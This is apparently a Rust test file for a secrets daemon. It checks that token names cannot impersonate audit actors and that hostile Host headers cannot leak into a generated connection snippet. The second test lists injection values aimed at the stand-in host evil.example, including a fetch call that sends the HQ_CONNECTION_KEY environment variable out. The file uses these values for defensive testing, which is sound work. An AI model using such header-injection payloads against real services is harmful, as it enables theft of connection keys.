//! Token names cannot read as another audit actor, and the connection snippet's `BASE` is the
//! daemon's own address whatever `Host` header a caller sends.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::Duration;

use common::*;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use serde_json::{Value, json};

#[test]
fn a_token_name_can_never_read_as_another_audit_actor() {
    let d = daemon();
    let conn = d.owner("POST", "/v1/connections", Some(json!({"name": "docs", "patterns": ["knowledge/"]})));
    let conn_id = conn.json()["connection"]["id"].as_str().unwrap().to_owned();
    assert!(conn_id.starts_with("conn_"));
    for name in [
        "anonymous",
        "bootstrap",
        "daemon",
        "unknown",
        "owner",
        "system",
        conn_id.as_str(),
        "conn_0123456789abcdef",
        "Bootstrap",
        "ci_bot",
        "-lead",
        ".hidden",
        "",
        &"a".repeat(64),
        "a b",
        "caf\u{e9}",
    ] {
        let a = d.owner("POST", "/v1/tokens", Some(json!({ "name": name })));
        assert_eq!((a.status, a.code().as_str()), (400, "bad_name"), "{name:?} must be refused");
        let msg = a.json()["error"]["message"].as_str().unwrap().to_owned();
        assert!(msg.contains("1-63 characters of lower-case a-z, 0-9"), "the message names the rule: {msg}");
        assert!(msg.contains("anonymous, bootstrap, daemon, unknown, owner, system"), "{msg}");
    }
    assert!(
        d.owner("POST", "/v1/tokens", Some(json!({"name": "bootstrap"}))).json()["error"]["message"]
            .as_str()
            .unwrap()
            .starts_with("this token name is reserved"),
        "a reserved name is told apart from a malformed one"
    );
    // The alphabet's edges are accepted.
    for name in ["deploy-bot.prod", "0", "a", &"z".repeat(63), "conn-0123456789abcdef", "bootstrap2"] {
        let a = d.owner("POST", "/v1/tokens", Some(json!({ "name": name })));
        assert_eq!(a.status, 201, "{name}: {}", String::from_utf8_lossy(&a.body));
    }
    // No audit line names a managed token as one of the vault's own actors.
    let log = std::fs::read_to_string(d.home().join("audit.log")).unwrap();
    for line in log.lines() {
        let v: Value = serde_json::from_str(line).unwrap();
        if v["op"] == "token-create" {
            assert_eq!(v["actor"], "bootstrap", "only the owner creates tokens: {line}");
        }
    }
}

/// One HTTP/1.1 request over TLS, written by hand so that the `Host` header is whatever we say.
fn raw_request(d: &Daemon, host: &str, method: &str, path: &str, body: &str) -> (u16, String) {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let mut roots = rustls::RootCertStore::empty();
    let pem = std::fs::read(d.home().join("tls/ca.pem")).unwrap();
    roots.add(CertificateDer::from_pem_slice(&pem).unwrap()).unwrap();
    let config = rustls::ClientConfig::builder().with_root_certificates(roots).with_no_client_auth();
    let addr = d.url.trim_start_matches("https://").to_owned();
    let server = ServerName::try_from("127.0.0.1").unwrap();
    let mut conn = rustls::ClientConnection::new(Arc::new(config), server).unwrap();
    let mut tcp = TcpStream::connect(&addr).unwrap();
    tcp.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let mut tls = rustls::Stream::new(&mut conn, &mut tcp);
    let req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\n\
Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        d.token(),
        body.len()
    );
    tls.write_all(req.as_bytes()).unwrap();
    let mut out = Vec::new();
    let _ = tls.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_owned()).unwrap_or_default();
    (status, body)
}

#[test]
fn the_snippet_base_is_the_daemons_own_address_whatever_the_host_header_says() {
    let d = daemon();
    let want = format!("const BASE = \"{}\";", d.url);
    for (n, host) in [
        "127.0.0.1:1@evil.example",
        "127.0.0.1:1\";fetch('https://evil.example/?k='+process.env.HQ_CONNECTION_KEY);\"",
        "localhost:1/../@evil.example",
        "[::1]:1#@evil.example",
        "evil.example",
    ]
    .into_iter()
    .enumerate()
    {
        let body = json!({"name": format!("docs-{n}"), "patterns": ["knowledge/"]}).to_string();
        let (status, text) = raw_request(&d, host, "POST", "/v1/connections", &body);
        assert_eq!(status, 201, "{host}: {text}");
        let v: Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{host}: {e}: {text}"));
        let snippet = v["snippet"].as_str().unwrap();
        assert_eq!(
            snippet.lines().find(|l| l.starts_with("const BASE")),
            Some(want.as_str()),
            "Host {host:?} leaked into the snippet:\n{snippet}"
        );
        assert!(!snippet.contains("evil"), "{snippet}");
    }
}
